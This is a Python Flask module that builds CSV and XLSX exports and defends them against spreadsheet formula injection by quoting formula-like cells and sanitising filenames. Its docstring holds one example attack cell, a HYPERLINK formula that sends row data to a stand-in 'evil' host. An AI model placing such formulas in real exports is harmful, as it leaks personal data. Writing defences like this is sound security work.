"""Spreadsheet downloads (CSV and XLSX), for every export of the app.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula: a child called ``=HYPERLINK("http://evil/?"&A2)`` would
send the row to a stranger when staff click it. Every cell of every export passes through
:func:`neutralise`, so a new export cannot forget it. Real numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from flask import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _cell(value):
    """Numbers and dates as they are (a spreadsheet computes with them), anything else as text."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal | date | datetime) and not isinstance(value, bool):
        return value
    return str(value)  # lazy translations, booleans, UUIDs


def neutralise(value):
    """The cell for a CSV: text that a spreadsheet would read as a formula gets a leading
    apostrophe, the usual "this is text" mark (OWASP's advice against CSV injection)."""
    value = _cell(value)
    return "'" + value if _formula_like(value) else value


def _filename(stem: str, extension: str) -> str:
    """ASCII letters, digits and dashes only: nothing to break out of the quoted header value."""
    ascii_stem = unicodedata.normalize("NFKD", stem).encode("ascii", "ignore").decode()
    safe = re.sub(r"[^A-Za-z0-9]+", "-", ascii_stem).strip("-").lower()[:100] or "export"
    return f"{safe}.{extension}"


def _download(body, mimetype: str, filename: str) -> Response:
    response = Response(body, mimetype=mimetype)
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    # Personal data: neither the browser nor a proxy keeps a copy.
    response.headers["Cache-Control"] = "no-store"
    response.headers["X-Content-Type-Options"] = "nosniff"
    return response


def csv_response(header: Sequence, rows: Iterable[Sequence], filename: str) -> Response:
    """A CSV as Excel in a Belgian locale opens it directly: UTF-8 with BOM, semicolons."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    for row in [header, *rows]:
        writer.writerow([neutralise(cell) for cell in row])
    return _download("\ufeff" + buffer.getvalue(), "text/csv", _filename(filename, "csv"))


def xlsx_response(header: Sequence, rows: Iterable[Sequence], filename: str, sheet: str) -> Response:
    return xlsx_workbook_response([(sheet, header, rows)], filename)


def xlsx_workbook_response(sheets: Sequence[tuple[str, Sequence, Iterable[Sequence]]], filename: str) -> Response:
    """One workbook, a sheet per (name, header, rows): every cell neutralised as in a single sheet."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    book.remove(book.active)
    for sheet, header, rows in sheets:
        page = book.create_sheet(re.sub(r"[\[\]:*?/\\]", " ", str(sheet))[:31] or "Export")
        for row in [header, *rows]:
            # Control characters are not allowed in the file format (openpyxl would refuse the row).
            page.append([ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
                         for value in map(_cell, row)])
        for row in page.iter_rows():
            for cell in row:
                if _formula_like(cell.value):
                    # openpyxl made it a formula: store the exact text as a string cell instead, with
                    # Excel's own "typed with an apostrophe" flag, so editing the cell keeps it text.
                    cell.data_type = "s"
                    cell.quotePrefix = True
    buffer = io.BytesIO()
    book.save(buffer)
    return _download(buffer.getvalue(), XLSX_MIMETYPE, _filename(filename, "xlsx"))
